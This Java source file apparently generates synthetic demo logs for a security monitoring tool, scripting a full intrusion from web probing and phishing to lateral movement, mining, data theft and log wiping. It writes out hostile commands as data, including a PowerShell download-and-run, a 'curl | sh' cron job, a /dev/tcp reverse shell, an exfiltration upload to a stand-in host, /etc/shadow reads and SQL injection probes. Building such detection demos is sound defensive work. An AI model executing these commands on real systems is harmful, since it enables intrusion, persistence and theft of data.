package org.spoolhound.web.demo;

import java.util.List;
import java.util.Map;
import org.spoolhound.web.demo.DemoRows.Program;

/**
 * The attack: a web scan that leads nowhere, a mail that does, a guessed password, root on the jump
 * host, doors left open, two more machines, a miner, stolen data, and deleted logs.
 */
final class DemoAttack {
    private static final String STRANGER = "203.0.113.45";
    private static final String CONTROL = "203.0.113.99";
    private static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";

    private final DemoFleet fleet;

    DemoAttack(DemoFleet fleet) {
        this.fleet = fleet;
    }

    void tell() {
        webScan(840);
        phishing(900);
        guessedPassword(960);
        rootOnTheJumpHost(975);
        doors(1000);
        furtherMachines(1050);
        miner(1090);
        theft(1150);
        coveredTracks(1240);
        fleet.machine("files-1").full(1200, 0.97);
        fleet.machine("dev-1").silent(1260);
        fleet.machine("lab-1").lives(-600, -300);
    }

    private void webScan(int minute) {
        DemoMachine web = fleet.machine("web-1");
        String tool = "sqlmap/1.9.11#stable (https://sqlmap.org)";
        for (String path : List.of(
                "/.env",
                "/.git/config",
                "/wp-login.php",
                "/phpmyadmin/",
                "/backup.sql",
                "/server-status",
                "/admin",
                "/config.php.bak",
                "/old",
                "/test",
                "/api/v1/pods",
                "/cgi-bin/test.cgi",
                "/console/",
                "/shell.php")) {
            web.access(minute, STRANGER, "GET " + path, 404, tool);
        }
        for (String query : List.of(
                "/search?q=1%27%20OR%20%271%27=%271",
                "/search?q=-1%20UNION%20ALL%20SELECT%201,2,user()--",
                "/search?q=1;WAITFOR%20DELAY%20%270:0:5%27--",
                "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "/static/..%2f..%2f..%2f..%2fetc/passwd",
                "/search?q=;cat%20/etc/passwd")) {
            web.access(minute + 1, STRANGER, "GET " + query, 200, tool);
            web.access(minute + 2, STRANGER, "GET " + query + "&page=2", 200, tool);
        }
    }

    private void phishing(int minute) {
        DemoMachine pc = fleet.machine("ws-7");
        String office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        String powershell = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";
        started(pc, minute, SYSTEM32 + "cmd.exe", "cmd.exe /c start /b powershell", office);
        started(
                pc,
                minute,
                powershell,
                "powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                SYSTEM32 + "cmd.exe");
        started(
                pc,
                minute + 1,
                powershell,
                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://" + CONTROL
                        + "/a.ps1')\"",
                powershell);
        for (String command : List.of(
                "whoami /all",
                "net user",
                "net group \"domain admins\"",
                "ipconfig /all",
                "nltest /dclist:",
                "systeminfo")) {
            started(pc, minute + 4, SYSTEM32 + "cmd.exe", command, powershell);
        }
        started(
                pc,
                minute + 9,
                powershell,
                "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                powershell);
        pc.windows(minute + 9, "Microsoft-Windows-Windows Defender/Operational", 5001, Map.of());
        pc.windows(
                minute + 12,
                SYSMON,
                10,
                Map.of(
                        "SourceImage", "C:\\Users\\mkeller\\AppData\\Local\\Temp\\u.exe",
                        "TargetImage", SYSTEM32 + "lsass.exe",
                        "GrantedAccess", "0x1010"));
        pc.windows(
                minute + 14,
                SYSMON,
                13,
                Map.of(
                        "TargetObject",
                        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
                        "Details",
                        "C:\\Users\\Public\\u.exe"));
    }

    private static void started(
            DemoMachine pc, int minute, String image, String command, String parent) {
        pc.windows(
                minute,
                SYSMON,
                1,
                Map.of(
                        "Image", image,
                        "CommandLine", command,
                        "ParentImage", parent,
                        "User", "CORP\\mkeller"));
    }

    private void guessedPassword(int minute) {
        DemoMachine jump = fleet.machine("jump-1");
        for (int i = 0; i < 42; i++) {
            jump.auth(
                    minute + i / 8,
                    "sshd[" + (21_000 + i) + "]: Failed password for mkeller from " + STRANGER
                            + " port " + (42_000 + i) + " ssh2");
        }
        jump.auth(
                minute + 8,
                "sshd[21100]: Accepted password for mkeller from " + STRANGER + " port 42100 ssh2");
    }

    private void rootOnTheJumpHost(int minute) {
        DemoMachine jump = fleet.machine("jump-1");
        jump.auth(
                minute,
                "sudo:  mkeller : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mkeller ; USER=root ;"
                        + " COMMAND=/bin/bash");
        runs(jump, minute + 4, 22_010, "/usr/bin/bash", "bash /tmp/linpeas.sh");
        runs(jump, minute + 6, 22_020, "/usr/bin/find", "find / -perm -4000 -type f");
        runs(jump, minute + 10, 22_030, "/usr/bin/cat", "cat /etc/shadow");
        runs(
                jump,
                minute + 11,
                22_031,
                "/usr/bin/bash",
                "bash -c unset HISTFILE; export HISTSIZE=0");
    }

    private void doors(int minute) {
        DemoMachine jump = fleet.machine("jump-1");
        jump.auth(
                minute,
                "useradd[22400]: new user: name=svc-sync, UID=1010, GID=1010, home=/home/svc-sync,"
                        + " shell=/bin/bash, from=/dev/pts/1");
        jump.auth(minute, "usermod[22410]: add 'svc-sync' to group 'sudo'");
        jump.appears(minute, "svc-sync", DemoRows.account("svc-sync", 1010, true));
        jump.appears(minute + 3, "root", DemoRows.key("root", "/root", "kali@kali"));
        jump.appears(minute + 4, "svc-sync", DemoRows.sudo("svc-sync", "ALL=(ALL) NOPASSWD: ALL"));
        jump.appears(
                minute + 6,
                "dbus-helper.service",
                DemoRows.unit("dbus-helper.service", "D-Bus Helper"));
        jump.appears(
                minute + 6,
                "dbus-helper.timer",
                DemoRows.unit("dbus-helper.timer", "D-Bus Helper Timer"));
        jump.syslog(minute + 8, "crontab[22500]: (root) REPLACE (root)");
        jump.syslog(
                minute + 20, "CRON[22600]: (root) CMD (curl -fsSL http://" + CONTROL + "/u | sh)");
        jump.appears(minute + 9, "nmap", DemoRows.installed("nmap", "7.95+dfsg-3"));
        runs(jump, minute + 12, 22_700, "/usr/bin/nmap", "nmap -sS 10.20.0.0/16");
        Program shell = new Program(
                22_800,
                "/usr/bin/bash",
                "bash -c bash -i >& /dev/tcp/" + CONTROL + "/4444 0>&1",
                "root",
                0.01);
        jump.appears(minute + 15, "22800", DemoRows.running(shell, "cron"));
        jump.appears(minute + 15, "control", DemoRows.connection(jump.ip(), CONTROL, 4444, shell));
    }

    private void furtherMachines(int minute) {
        DemoMachine jump = fleet.machine("jump-1");
        Program ssh = new Program(23_000, "/usr/bin/ssh", "ssh root@10.20.2.21", "root", 0);
        int number = 0;
        for (String name : List.of("db-1", "web-2", "files-1", "mail-1", "web-1", "dev-1")) {
            DemoMachine other = fleet.machine(name);
            jump.appears(
                    minute + number,
                    "ssh " + name,
                    DemoRows.connection(jump.ip(), other.ip(), 22, ssh));
            jump.goes(minute + 60, "socket", "ssh " + name);
            other.auth(
                    minute + number,
                    "sshd[" + (3_000 + number) + "]: Accepted password for root from " + jump.ip()
                            + " port " + (50_000 + number) + " ssh2");
            number++;
        }
        DemoMachine web = fleet.machine("web-2");
        Program door = new Program(4_100, "/usr/bin/ncat", "ncat -lk -p 4444", "root", 0);
        web.appears(minute + 12, "4100", DemoRows.running(door, "bash"));
        web.appears(minute + 12, "4444", DemoRows.listener(4444, door));
    }

    private void miner(int minute) {
        DemoMachine db = fleet.machine("db-1");
        Program miner = new Program(
                5_200,
                "/dev/shm/.x/kworker",
                "/dev/shm/.x/kworker -o stratum+tcp://" + CONTROL + ":3333",
                "postgres",
                1.94);
        db.appears(minute, "5200", DemoRows.deleted(miner, "sh"));
        db.appears(minute, "pool", DemoRows.connection(db.ip(), CONTROL, 3333, miner));
        db.busy(minute, 0.97);
    }

    private void theft(int minute) {
        DemoMachine db = fleet.machine("db-1");
        runs(db, minute, 5_300, "/usr/bin/pg_dumpall", "pg_dumpall -f /tmp/.d/all.sql");
        runs(
                db,
                minute + 10,
                5_310,
                "/usr/bin/tar",
                "tar czf /tmp/.d/a.tgz /tmp/.d/all.sql /srv/finance");
        runs(
                db,
                minute + 30,
                5_320,
                "/usr/bin/curl",
                "curl -T /tmp/.d/a.tgz http://" + CONTROL + "/up");
        Program curl = new Program(5_320, "/usr/bin/curl", "curl", "root", 0);
        db.appears(minute + 30, "upload", DemoRows.connection(db.ip(), CONTROL, 80, curl));
        db.goes(minute + 70, "socket", "upload");
    }

    private void coveredTracks(int minute) {
        DemoMachine jump = fleet.machine("jump-1");
        runs(jump, minute, 24_000, "/usr/bin/systemctl", "systemctl stop auditd");
        runs(jump, minute + 5, 24_010, "/usr/bin/rm", "rm -f /var/log/auth.log.1");
        runs(jump, minute + 6, 24_020, "/usr/bin/rm", "rm -rf /var/lib/spoolhound");
        jump.gap(minute + 20, "/var/log/auth.log", "it became shorter without being rotated");
        DemoMachine pc = fleet.machine("ws-7");
        pc.windows(minute + 10, "Security", 1102, Map.of());
    }

    /** A command that is seen by one snapshot at least. */
    private static void runs(
            DemoMachine machine, int minute, int pid, String executable, String command) {
        Program program = new Program(pid, executable, command, "root", 0.02);
        machine.appears(minute, String.valueOf(pid), DemoRows.running(program, "bash"));
        machine.goes(minute + 35, "process", String.valueOf(pid));
    }
}
